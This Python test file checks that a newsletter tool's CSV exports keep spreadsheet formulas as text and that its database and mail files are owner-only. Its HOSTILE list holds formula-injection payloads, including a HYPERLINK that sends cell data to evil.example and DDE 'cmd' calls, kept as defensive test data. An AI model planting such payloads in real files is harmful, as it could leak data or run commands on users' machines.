"""Files safe to open: formulas stay text in Excel, private files are owner-only, no temp file is left."""
from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from postbode import files
from postbode.errors import PostbodeError

from conftest import SAMPLE

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_subscribers_export_writes_formulas_as_text(invoke, project, tmp_path):
    """The attack: a sign-up named =HYPERLINK(…) runs as a formula when the staff open the export."""
    source = tmp_path / "hostile.csv"
    rows = [[f"r{i}@example.org", name, "nl"] for i, name in enumerate(HOSTILE)]
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["email", "name", "language"], *rows])
    assert invoke("subscribers", "import", str(source), "--list", "subscribers").exit_code == 0
    out = tmp_path / "export.csv"
    result = invoke("subscribers", "export", str(out))
    assert result.exit_code == 0, result.output
    names = {row[0]: row[1] for row in read_csv(out)[1:]}
    assert [names[f"r{i}@example.org"] for i in range(len(HOSTILE))] == ["'" + n for n in HOSTILE]
    assert mode(out) == 0o600


def test_write_csv_prefixes_every_cell_a_spreadsheet_would_run(tmp_path):
    path = tmp_path / "report.csv"
    cells = ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "a=b", "", " =x"]
    files.write_csv(path, ["=header", "ok"], [cells, [5, -5]], what="the report")
    header, first, second = read_csv(path)
    assert header == ["'=header", "ok"]
    assert first == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain", "a=b", "", " =x"]
    assert second == ["5", "-5"]  # numbers are numbers, not formulas


def test_the_state_database_and_its_folder_are_owner_only(tmp_path):
    """The fault: state/postbode.sqlite3 (addresses, consent) was readable by every local user."""
    from postbode import store

    path = tmp_path / "state" / "postbode.sqlite3"
    conn = store.connect(path)
    try:
        conn.exec_driver_sql("CREATE TABLE t(x)")
        conn.exec_driver_sql("INSERT INTO t VALUES (1)")
        assert mode(path.parent) == 0o700 and mode(path) == 0o600
        wal = path.with_name(path.name + "-wal")
        assert wal.exists() and mode(wal) == 0o600
    finally:
        conn.close()
    path.chmod(0o644)  # a database made by an earlier version is tightened when opened
    store.connect(path).close()
    assert mode(path) == 0o600


def test_outbox_and_build_mails_are_owner_only(invoke, project, send_settings):
    """The fault: outbox and build .eml files (addresses, working unsubscribe links) were world-readable."""
    result = invoke("send", SAMPLE, "--segment", "everyone", "--yes")
    assert result.exit_code == 0, result.output
    mails = sorted((project / "outbox").rglob("*.eml"))
    assert mails and {mode(m) for m in mails} == {0o600}
    assert mode(project / "outbox") == 0o700
    assert invoke("build", SAMPLE).exit_code == 0
    built = sorted(send_settings.build_dir.rglob("*.eml"))
    assert built and {mode(m) for m in built} == {0o600}
    pages = sorted(send_settings.build_dir.rglob("*.html"))
    assert pages and all(mode(p) & 0o044 == 0o044 for p in pages)  # no address inside: readable


def test_a_failed_write_leaves_no_temporary_file(tmp_path):
    def rows():
        yield ["a@example.org"]
        raise ValueError("the database went away")

    with pytest.raises(ValueError):
        files.write_csv(tmp_path / "export.csv", ["email"], rows(), what="the export")
    with pytest.raises(TypeError):
        files.write_atomically({tmp_path / "a.html": b"<p>", tmp_path / "b.eml": "not bytes"})  # type: ignore[dict-item]
    assert sorted(os.listdir(tmp_path)) == []
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where a folder should be", encoding="utf-8")
    with pytest.raises(PostbodeError, match="could not write"):
        files.write_atomically({tmp_path / "ok.html": b"<p>", blocked / "x.html": b"<p>"})
    assert sorted(os.listdir(tmp_path)) == ["blocked"]
